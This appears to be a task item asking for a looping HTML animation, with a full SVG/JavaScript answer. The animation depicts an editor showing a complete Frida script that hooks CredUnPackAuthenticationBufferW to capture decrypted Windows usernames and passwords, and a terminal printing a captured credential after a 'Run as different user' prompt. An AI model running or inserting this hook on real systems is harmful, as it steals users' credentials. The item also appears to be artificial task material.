
Write an HTML page that moves like this. It is 1035 px wide and 541 px high and loops after 8000 ms.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Credential hook</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #202020; }
  svg { display: block; width: 100%; height: 100%; }
  text { white-space: pre; text-rendering: geometricPrecision; }
  .code { font: 700 9.07px "Noto Sans Mono", monospace; fill: #ececec; }
  .num { font-weight: 400; fill: #4c4c4c; }
  .note { font-weight: 400; font-style: italic; fill: #505050; }
  .term { font: 600 10.62px "Noto Sans Mono", monospace; fill: #bdbdbd; }
  .ui { font: 400 9.3px "Open Sans", sans-serif; color: #fff; fill: currentColor; stroke: currentColor; stroke-width: 0.22px; }
</style>
</head>
<body>
<svg id="stage" viewBox="0 0 1035 541" preserveAspectRatio="none">
  <defs>
    <clipPath id="editorClip"><rect width="546" height="541"/></clipPath>
    <clipPath id="behindClip"><rect width="622" height="541"/></clipPath>
  </defs>
</svg>
<script>
const LOOP = 8000;
const stage = document.getElementById('stage');

function add(parent, tag, attrs = {}, content) {
  const node = document.createElementNS('http://www.w3.org/2000/svg', tag);
  for (const key in attrs) node.setAttribute(key, attrs[key]);
  if (content !== undefined) node.textContent = content;
  parent.append(node);
  return node;
}
const set = (node, attrs) => { for (const key in attrs) node.setAttribute(key, attrs[key]); };
const show = (node, on) => node.setAttribute('display', on ? 'inline' : 'none');
const box = (parent, x, y, width, height, fill, more) =>
  add(parent, 'rect', { x, y, width, height, fill, ...more });
const label = (parent, x, y, content, cls, more) =>
  add(parent, 'text', { x, y, class: cls, ...more }, content);
const stroke = (parent, d, color, width = 1) =>
  add(parent, 'path', { d, fill: 'none', stroke: color, 'stroke-width': width });

// ---------- editor ----------
const source = `var username;
var password;
var CredUnPackAuthenticationBufferW = Module.findExportByName("Credui.dll", "CredUnPackAuthenticationBufferW")

Interceptor.attach(CredUnPackAuthenticationBufferW, {
    onEnter: function (args)
    {
        // Credentials here are still encrypted
        /*
            CREDUIAPI BOOL CredUnPackAuthenticationBufferW(
                0 DWORD  dwFlags,
                1 PVOID  pAuthBuffer,
                2 DWORD  cbAuthBuffer,
                3 LPWSTR pszUserName,
                4 DWORD  *pcchMaxUserName,
                5 LPWSTR pszDomainName,
                6 DWORD  *pcchMaxDomainName,
                7 LPWSTR pszPassword,
                8 DWORD  *pcchMaxPassword
            );
        */
        username = args[3];
        password = args[7];
    },
    onLeave: function (result)
    {
        // Credentials are now decrypted
        var user = username.readUtf16String()
        var pass = password.readUtf16String()

        if (user && pass)
        {
            console.log("\\n+ Intercepted Credentials\\n" + user + ":" + pass)
        }
    }
});`.split('\n');

const CODE_X = 42, PITCH = 13.486, CHAR = 5.442;
const lineY = n => 26.2 + PITCH * (n - 1);
const isNote = n => (n >= 8 && n <= 21) || n === 27;

const tokenPattern = /"[^"]*"|\b(?:var|function|if)\b|\w+|\s+|[^\w\s]/g;
function tokenColor(token, next, indent) {
  if (token[0] === '"') return '#c3e88d';
  if (/^(var|function|if)$/.test(token)) return '#c792ea';
  if (/^on[EL]/.test(token)) return '#82aaff';
  if (/^\d$/.test(token)) return '#f78c6c';
  if (/[[\]]/.test(token)) return '#f4625e';
  if (/[()]/.test(token)) return indent >= 8 ? '#f4625e' : '#89ddff';
  if (/^\w/.test(token)) return next === '(' ? '#7fb8f5' : '#ececec';
  return '#89ddff';
}

function drawCode(parent) {
  source.forEach((line, i) => {
    const n = i + 1, y = lineY(n), indent = line.search(/\S|$/);
    label(parent, 24, y, n, 'code num', { 'text-anchor': 'end', ...(n === 13 && { style: 'fill:#c8c8b8' }) });
    if (isNote(n)) return label(parent, CODE_X, y, line, 'code note');
    const row = label(parent, CODE_X, y, '', 'code');
    const tokens = line.match(tokenPattern) || [];
    tokens.forEach((token, k) => {
      const fill = tokenColor(token, tokens[k + 1], indent);
      for (const part of token.split(/(\\n)/))
        if (part) add(row, 'tspan', { fill: part === '\\n' ? '#89ddff' : fill }, part);
    });
  });
}

function drawMinimap(parent) {
  box(parent, 552, 33.5, 66, 1.2, '#28476a');
  source.forEach((line, i) => {
    const y = 16.3 + i * 1.42;
    const color = isNote(i + 1) ? '#444' : '#b4b4b4';
    for (const word of line.matchAll(/\S+/g)) {
      const x = 552 + word.index * 0.64;
      box(parent, x, y, Math.min(word[0].length * 0.64, 617 - x), 1, color, { opacity: 0.8 });
    }
  });
}

const editor = add(stage, 'g');
box(editor, 0, 0, 1035, 541, '#202020');
box(editor, 250, 0, 97, 1, '#2a9ea8');
[['frida', 5], ['hello-world', 35], ['credentials.js', 108], ['onEnter', 187]].forEach(([name, x]) =>
  label(editor, x, 12, name, 'ui', { style: 'font-size:8.9px;color:#929292' }));
[28, 87, 165].forEach(x => stroke(editor, `M${x - 1} 6l2.5 3l-2.5 3`, '#7a7a7a', 0.9));
box(editor, 96, 5.5, 7, 7, '#d6c04a');
stroke(editor, 'M177.500 4l4 2v5l-4 2.500l-4-2.500v-5zM173.500 6l4 2.300l4-2.300M177.500 8.300v5', '#b180d7', 0.9);

const codeLayer = add(editor, 'g', { 'clip-path': 'url(#editorClip)' });
box(codeLayer, 42, 178, 504, 13.5, '#1c1c1c');
const darkBand = box(codeLayer, 436, 178, 110, 13.5, '#131313');
const guide = (col, from, to) =>
  box(codeLayer, Math.round(CODE_X + col * CHAR), lineY(from) - 10, 1, (to - from + 1) * PITCH, '#303030');
guide(4, 8, 23); guide(4, 27, 34); guide(8, 10, 20); guide(8, 33, 33); guide(12, 11, 19);
[7, 24].forEach(n => box(codeLayer, 63.5, lineY(n) - 8.5, 6, 11, 'none', { stroke: '#6b6437', 'stroke-width': 0.8 }));
drawCode(codeLayer);
box(editor, 545, 0, 1.5, 541, '#1a1a1a');
drawMinimap(editor);
box(editor, 618, 112, 9, 2, '#a8891c');

// ---------- terminal ----------
const CYAN = '#54b3c3', YELLOW = '#f2e06c', AMBER = '#d8ac3c', BRIGHT = '#7cdcec', RED = '#e0626c';
const log = [];
// Stamps are written as "time" or "time*count".
function record(at, color, thread, stamps) {
  if (thread) log.push({ at, color, stamp: ' '.repeat(11), call: `/* TID ${thread} */` });
  for (const item of stamps.split(' ')) {
    const [time, count = 1] = item.split('*');
    for (let i = 0; i < count; i++) log.push({ at, color, stamp: `${time} ms  `, call: 'CredFree()' });
  }
}
record(0, CYAN, '0x1fc4', '1680455*7');
record(0, YELLOW, '0x2d78', '1680455*2');
record(0, CYAN, '0x1fc4', '1680459*2');
record(140, CYAN, '', '1681460*7');
record(140, YELLOW, '0x2d78', '1681460*2');
record(140, CYAN, '0x1fc4', '1681468*2');
record(3320, AMBER, '0x3988', '1684807*2');
record(4560, RED, '0x1c3c', '1686026*3');
record(4560, BRIGHT, '0x2064', '1686026*13');
record(4820, CYAN, '0x1fc4', '1686399*3');
record(4950, CYAN, '', '1686485*2 1686486*2 1686517*2');
record(5080, CYAN, '', '1686556*2 1686588*2 1686618*2 1686648*2');
record(5210, CYAN, '', '1686680*2 1686711*2 1686742*2');
record(5750, CYAN, '', '1687287*2 1687319*2');
record(5900, CYAN, '', '1687345 1687408*2 1687478*3 1687479*6');
record(7750, YELLOW, '0x5654', '1689307*2');

const terminal = add(stage, 'g');
const dialogLayer = add(stage, 'g');
const termBack = box(terminal, 627, 0, 413, 541, '#191221');
const divider = box(terminal, 627, 208, 413, 2, '#1a949d');
const rows = Array.from({ length: 15 }, () => {
  const text = label(terminal, 628, 0, '', 'term');
  return { text, stamp: add(text, 'tspan'), call: add(text, 'tspan') };
});
label(terminal, 628, 226.5, '[Local::PID::4468]->', 'term');
const stolen = add(terminal, 'g');
label(stolen, 628, 240, '+ Intercepted Credentials', 'term');
label(stolen, 628, 253.5, 'BRIMLOCK\\dock-operator:how are you liking me creds', 'term');
const termCaret = box(terminal, 628, 256.5, 1, 12.5, '#e8e8e8');

// ---------- dialog ----------
const USER = 'dock-operator';
const dialog = add(dialogLayer, 'g');
box(dialog, 0, 0, 323, 234, '#1d1d1d', { stroke: '#22a8b0' });
label(dialog, 16.5, 14.5, 'Dorvane Security', 'ui', { style: 'font-size:8.2px' });
label(dialog, 16.5, 38.3, 'Run as different user', 'ui', { style: 'font-size:13.2px' });
label(dialog, 17.5, 67.5, 'Please enter credentials to use for C:\\Windows', 'ui');
label(dialog, 17.5, 80.5, '\\System32\\notepad.exe.', 'ui');
label(dialog, 17.5, 176.8, 'The user name or password is incorrect.', 'ui', { style: 'color:#fff200' });
stroke(dialog, 'M303 8l7 7m0-7l-7 7', '#f4f4f4', 1.1);
[['OK', 17.5], ['Cancel', 163]].forEach(([name, x]) => {
  box(dialog, x, 193.5, 143, 23, '#4c4c4c');
  label(dialog, x + 71.5, 208.6, name, 'ui', { 'text-anchor': 'middle' });
});

function makeField(y) {
  return {
    frame: box(dialog, 18, y, 209, 22, '#181818'),
    text: label(dialog, 24, y + 14.6, '', 'ui'),
    caret: box(dialog, 24, y + 4.5, 1, 13, '#222'),
  };
}
function updateField({ frame, text, caret }, { focused, value, hint, ink }) {
  set(frame, { fill: focused ? '#fff' : '#181818', stroke: focused ? '#39b4bd' : '#a0a0a0' });
  text.textContent = value || hint;
  text.style.color = value ? ink : focused ? '#a3a3a3' : '#adadad';
  show(caret, focused);
}
const userField = makeField(96), passField = makeField(127);
const clearMark = stroke(dialog, 'M213.500 103.500l6 6m0-6l-6 6', '#777', 1);
const eye = add(dialog, 'g');
stroke(eye, 'M212 138q4.500-5.500 9 0', '#888', 0.9);
add(eye, 'circle', { cx: 216.5, cy: 138.5, r: 1.6, fill: 'none', stroke: '#888', 'stroke-width': 0.9 });
const dots = Array.from({ length: 27 }, (_, i) =>
  add(dialog, 'circle', { cx: 26.7 + i * 6, cy: 138.7, r: 2, fill: '#111' }));

// ---------- pointers ----------
const beam = stroke(stage, 'M735.500 399h2l1 .8l1-.8h2M738.500 399.500v9.500M735.500 410h2l1-.8l1 .8h2', '#f0f0f0', 1.2);
beam.style.mixBlendMode = 'difference';
const arrow = add(stage, 'path', {
  d: 'M0 0v11.500l2.700-2.500l2 4.500l2-.9l-2-4.300h3.600z', fill: '#17131c', stroke: '#f4f4f4', 'stroke-width': 1,
});

// ---------- timing ----------
const bursts = [[140, 1130, 8], [1430, 2370, 8], [2520, 3460, 8], [3590, 4140, 4],
  [4430, 5340, 8], [5480, 6470, 8], [6620, 7620, 8], [7750, 7900, 2]];
const ticks = [0];
for (const [from, to, n] of bursts)
  for (let i = 0; i < n; i++) ticks.push(from + (to - from) * i / (n - 1));
const lastTick = t => ticks.filter(tick => tick <= t + 1).pop();

function follow(keys, t) {
  if (t <= keys[0][0]) return keys[0][1];
  for (let i = 1; i < keys.length; i++) {
    const [t0, v0] = keys[i - 1], [t1, v1] = keys[i];
    if (t <= t1) return v0 + (v1 - v0) * (t - t0) / (t1 - t0);
  }
  return keys[keys.length - 1][1];
}
const userKeys = [[0, 3], [989, 13]];
const passKeys = [[1290, 0], [2370, 12], [3460, 23], [4140, 27]];
const arrowX = [[5340, 738], [5900, 858], [6470, 640], [6620, 640], [7620, 942]];
const arrowY = [[5340, 405], [5900, 330], [6470, 254]];

function drawLog(t, bottom) {
  const seen = log.filter(entry => entry.at <= t + 1);
  rows.forEach(({ text, stamp, call }, i) => {
    const entry = seen[seen.length - 1 - i];
    show(text, !!entry);
    if (!entry) return;
    set(text, { y: bottom - i * 13.47 });
    stamp.textContent = entry.stamp;
    call.textContent = entry.call;
    set(call, { fill: entry.color });
  });
}

function drawDialog(t, second, front) {
  show(dialog, t < 4430 || second);
  set(dialog, { transform: second ? 'translate(435.5 257.500)' : 'translate(651.5 290.500)' });
  if (front) dialogLayer.setAttribute('clip-path', 'url(#behindClip)');
  else dialogLayer.removeAttribute('clip-path');

  const inUser = second ? !front : t < 1130;
  const inPass = !second && t >= 1130;
  const typed = second ? '' : USER.slice(0, Math.round(follow(userKeys, t)));
  const count = second ? 0 : Math.round(follow(passKeys, t));
  updateField(userField, { focused: inUser, value: typed, hint: 'User name', ink: inUser ? '#666' : '#f4f4f4' });
  updateField(passField, { focused: inPass, value: '', hint: count ? '' : 'Password' });
  const typedWidth = typed ? userField.text.getComputedTextLength() + 0.3 : 0;
  set(userField.caret, { x: 24 + typedWidth });
  set(passField.caret, { x: 24 + count * 6 });
  dots.forEach((dot, i) => show(dot, i < count));
  show(clearMark, inUser && typed);
  show(eye, count > 0);
}

function render(time) {
  const t = lastTick(time % LOOP);
  const second = t >= 4949, front = t >= 5900;
  const left = front ? 622 : 627;
  set(termBack, { x: left });
  set(divider, { x: left });
  show(darkBand, second);
  show(stolen, t >= 4559);
  show(termCaret, (t >= 6750 && t < 7190) || t >= 7749);
  drawLog(t, t >= 4559 && !front ? 191.6 : 178.1);
  drawDialog(t, second, front);
  show(beam, t < 4430);
  show(arrow, t >= 4430);
  set(arrow, { transform: `translate(${follow(arrowX, t)} ${follow(arrowY, t)})` });
}

const start = performance.now();
function loop() {
  render(performance.now() - start);
  requestAnimationFrame(loop);
}
loop();
</script>
</body>
</html>
```
